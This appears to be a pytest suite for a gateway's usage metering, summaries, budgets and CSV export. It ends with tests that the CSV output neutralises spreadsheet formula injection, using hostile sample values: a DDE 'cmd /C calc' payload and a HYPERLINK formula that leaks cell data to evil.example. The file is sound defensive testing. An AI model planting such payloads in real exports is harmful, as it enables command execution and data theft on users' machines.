"""Usage records and aggregates for tenants, their CSV export, and budgets' spend."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from rest_framework.test import APIClient

from billing.metering import Meter, record_usage
from billing.models import UsageRecord
from routing.models import ModelAlias
from tenants import services
from tenants.key_auth import authenticate_secret
from tenants.models import Team
from tenants.services import CreatedKey
from tests.billing.conftest import PRICE_MICRO, budget
from tests.fakes.upstream import FakeUpstream
from tests.openapi_check import SchemaCheckedClient
from tests.support import client_for

DAY_ONE = datetime(2026, 11, 30, 10, 0, tzinfo=UTC)
DAY_TWO = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


def _generate(client: APIClient, model: str, n: int = 1) -> int:
    body = {"model": model, "prompt": "a lighthouse", "n": n, "size": "1024x1024"}
    response = client.post(
        "/v1/images/generations", json.dumps(body), content_type="application/json"
    )
    return response.status_code


@pytest.fixture
def traffic(
    api_key: CreatedKey,
    other_team: Team,
    priced_alias: ModelAlias,
    platform_alias: ModelAlias,
    fake_upstream: FakeUpstream,
) -> dict[str, CreatedKey]:
    """Design's key: 2 priced images on day one, 1 on day two, 1 refused (unknown model);
    research's key: 1 priced image on day two."""
    research = services.key_create(actor="system:tests", team=other_team, name="research app")
    design = client_for(api_key.secret)
    with time_machine.travel(DAY_ONE, tick=False):
        assert _generate(design, "priced", n=2) == 200
    with time_machine.travel(DAY_TWO, tick=False):
        assert _generate(design, "priced") == 200
        assert _generate(design, "no-such-model") == 404
        assert _generate(client_for(research.secret), "priced") == 200
    assert UsageRecord.objects.count() == 4
    return {"design": api_key, "research": research}


def _csv(response: object) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")  # type: ignore[index]
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(text)))


def test_the_summary_by_day_counts_requests_images_errors_and_cost(
    admin: SchemaCheckedClient, traffic: dict[str, CreatedKey]
) -> None:
    body = admin.get("/api/v1/usage/summary?group_by=day").json()
    assert body["group_by"] == "day"
    assert body["data"] == [
        {
            "group": "2026-11-30",
            "label": "2026-11-30",
            "requests": 1,
            "images": 2,
            "errors": 0,
            "cost_micro": 2 * PRICE_MICRO,
            "cost_usd": "0.020000",
        },
        {
            "group": "2026-12-01",
            "label": "2026-12-01",
            "requests": 3,
            "images": 2,
            "errors": 1,
            "cost_micro": 2 * PRICE_MICRO,
            "cost_usd": "0.020000",
        },
    ]
    assert body["total"] == {
        "requests": 4,
        "images": 4,
        "errors": 1,
        "cost_micro": 4 * PRICE_MICRO,
        "cost_usd": "0.040000",
    }


@pytest.mark.parametrize("group_by", ["day", "alias", "key", "team"])
def test_the_summary_csv_matches_the_json_aggregates(
    admin: SchemaCheckedClient, traffic: dict[str, CreatedKey], group_by: str
) -> None:
    query = f"/api/v1/usage/summary?group_by={group_by}&start=2026-11-01&end=2026-12-31"
    rows = admin.get(query).json()["data"]
    assert rows
    exported = _csv(admin.get(f"{query}&format=csv"))
    assert exported == [{k: str(v) for k, v in row.items()} for row in rows]


def test_the_summary_by_key_names_each_key(
    admin: SchemaCheckedClient, traffic: dict[str, CreatedKey]
) -> None:
    rows = admin.get("/api/v1/usage/summary?group_by=key").json()["data"]
    by_key = {row["group"]: (row["label"], row["requests"], row["cost_micro"]) for row in rows}
    assert by_key == {
        traffic["design"].key.public_id: ("app key", 3, 3 * PRICE_MICRO),
        traffic["research"].key.public_id: ("research app", 1, PRICE_MICRO),
    }


def test_records_are_filtered_by_date_team_key_alias_and_status(
    admin: SchemaCheckedClient, traffic: dict[str, CreatedKey], other_team: Team
) -> None:
    def statuses(query: str) -> list[tuple[str, int]]:
        response = admin.get(f"/api/v1/usage?{query}")
        assert response.status_code == 200, response.json()
        return sorted((r["alias"], r["status"]) for r in response.json()["results"])

    assert statuses("start=2026-12-01") == [
        ("no-such-model", 404),
        ("priced", 200),
        ("priced", 200),
    ]
    assert statuses("end=2026-11-30") == [("priced", 200)]
    assert statuses("start=2026-11-30T10:00:00Z&end=2026-11-30T10:00:01Z") == [("priced", 200)]
    assert statuses(f"team={other_team.public_id}") == [("priced", 200)]
    assert statuses(f"key={traffic['design'].key.public_id}&status=error") == [
        ("no-such-model", 404)
    ]
    assert statuses("status=404") == [("no-such-model", 404)]
    assert statuses("alias=priced&status=success") == [("priced", 200)] * 3
    record = admin.get("/api/v1/usage?status=404").json()["results"][0]
    assert record["error_code"] == "model_not_found"
    assert record["cost_usd"] == "0.000000"


def test_the_records_csv_is_every_matching_record(
    admin: SchemaCheckedClient, traffic: dict[str, CreatedKey]
) -> None:
    records = admin.get("/api/v1/usage?limit=500").json()["results"]
    exported = _csv(admin.get("/api/v1/usage?format=csv"))
    assert sorted(r["request_id"] for r in exported) == sorted(r["request_id"] for r in records)
    by_id = {r["request_id"]: r for r in records}
    for row in exported:
        assert row == {field: str(value) for field, value in by_id[row["request_id"]].items()}


@pytest.mark.parametrize(
    ("query", "param"),
    [
        ("start=yesterday", "start"),
        ("start=2026-12-02&end=2026-12-01", "end"),
        ("status=teapot", "status"),
        ("group_by=hour", "group_by"),
        ("format=xml", "format"),
        ("colour=red", "colour"),
    ],
)
def test_bad_usage_filters_are_a_400_naming_the_parameter(
    admin: SchemaCheckedClient, db: None, query: str, param: str
) -> None:
    response = admin.get(f"/api/v1/usage/summary?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["error"]["param"] == param


def test_a_team_manager_sees_only_its_teams_usage(
    manager: SchemaCheckedClient, traffic: dict[str, CreatedKey]
) -> None:
    rows = manager.get("/api/v1/usage/summary?group_by=team").json()["data"]
    assert [(r["label"], r["requests"]) for r in rows] == [("design", 3)]
    records = manager.get("/api/v1/usage").json()["results"]
    assert {r["key"] for r in records} == {traffic["design"].key.public_id}
    foreign = manager.get(f"/api/v1/usage?key={traffic['research'].key.public_id}")
    assert foreign.status_code == 404


def test_the_summary_reports_each_budgets_spend_and_remaining(
    admin: SchemaCheckedClient,
    workspace: object,
    api_key: CreatedKey,
    priced_alias: ModelAlias,
    fake_upstream: FakeUpstream,
) -> None:
    monthly = budget(workspace=workspace, key=api_key.key, period="month", limit_micro=100_000)
    assert _generate(client_for(api_key.secret), "priced", n=3) == 200
    budgets = admin.get("/api/v1/usage/summary").json()["budgets"]
    assert len(budgets) == 1
    reported = budgets[0]
    assert reported["id"] == monthly.public_id
    assert (reported["scope"], reported["key"], reported["period"]) == (
        "key",
        api_key.key.public_id,
        "month",
    )
    assert (reported["spent_micro"], reported["remaining_micro"]) == (30_000, 70_000)
    assert (reported["spent_usd"], reported["remaining_usd"], reported["limit_usd"]) == (
        "0.030000",
        "0.070000",
        "0.100000",
    )
    start = datetime.fromisoformat(reported["period_start"])
    assert start.day == 1 and start.hour == 0
    assert datetime.fromisoformat(reported["resets_at"]) - start >= timedelta(days=28)


# What a hostile tenant puts where a spreadsheet would run it: a key's name, and a model
# name that a refused call and a passthrough call record as sent.
FORMULA_NAME = "=1+cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
PASSTHROUGH_MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_records(team: Team, platform_alias: ModelAlias) -> CreatedKey:
    created = services.key_create(actor="system:tests", team=team, name=FORMULA_NAME)
    with time_machine.travel(DAY_ONE, tick=False):
        assert _generate(client_for(created.secret), HYPERLINK) == 404
        meter = Meter(
            request_id="req_passthrough",
            endpoint="passthrough",
            principal=authenticate_secret(created.secret),
            provider="openai",
            upstream_model=PASSTHROUGH_MODEL,
            method="POST",
            path="/openai/v1/images/generations",
        )
        record_usage(meter, status=200, error_code="", bytes_out=7)
    return created


def test_the_records_csv_neutralises_cells_a_spreadsheet_would_run(
    admin: SchemaCheckedClient, hostile_records: CreatedKey
) -> None:
    exported = sorted(_csv(admin.get("/api/v1/usage?format=csv")), key=lambda r: r["endpoint"])
    assert [(r["endpoint"], r["alias"], r["upstream_model"]) for r in exported] == [
        ("images.generations", "'" + HYPERLINK, ""),
        ("passthrough", "", "'" + PASSTHROUGH_MODEL),
    ]
    assert [(r["status"], r["cost_micro"], r["cost_usd"], r["bytes_out"]) for r in exported] == [
        ("404", "0", "0.000000", exported[0]["bytes_out"]),
        ("200", "0", "0.000000", "7"),
    ]
    # The JSON is data, not a spreadsheet: it keeps what was sent.
    records = admin.get("/api/v1/usage").json()["results"]
    assert sorted((r["alias"], r["upstream_model"]) for r in records) == [
        ("", PASSTHROUGH_MODEL),
        (HYPERLINK, ""),
    ]


def test_the_summary_csv_neutralises_cells_a_spreadsheet_would_run(
    admin: SchemaCheckedClient, hostile_records: CreatedKey
) -> None:
    by_key = _csv(admin.get("/api/v1/usage/summary?group_by=key&format=csv"))
    assert by_key == [
        {
            "group": hostile_records.key.public_id,
            "label": "'" + FORMULA_NAME,
            "requests": "2",
            "images": "0",
            "errors": "1",
            "cost_micro": "0",
            "cost_usd": "0.000000",
        }
    ]
    by_alias = _csv(admin.get("/api/v1/usage/summary?group_by=alias&format=csv"))
    assert sorted((row["group"], row["label"], row["requests"]) for row in by_alias) == [
        ("", "", "1"),
        ("'" + HYPERLINK, "'" + HYPERLINK, "1"),
    ]
    labels = admin.get("/api/v1/usage/summary?group_by=key").json()["data"]
    assert [row["label"] for row in labels] == [FORMULA_NAME]


def test_a_record_shows_the_gateways_request_id_and_the_callers_in_json_and_csv(
    admin: SchemaCheckedClient, api_key: CreatedKey, platform_alias: ModelAlias
) -> None:
    response = client_for(api_key.secret).post(
        "/v1/images/generations",
        json.dumps({"model": "no-such-model", "prompt": "x"}),
        content_type="application/json",
        HTTP_X_REQUEST_ID="caller-trace-7",
    )
    assert response.status_code == 404
    [record] = admin.get("/api/v1/usage").json()["results"]
    assert (record["request_id"], record["client_request_id"]) == (
        response["x-request-id"],
        "caller-trace-7",
    )
    [row] = _csv(admin.get("/api/v1/usage?format=csv"))
    assert (row["request_id"], row["client_request_id"]) == (
        response["x-request-id"],
        "caller-trace-7",
    )
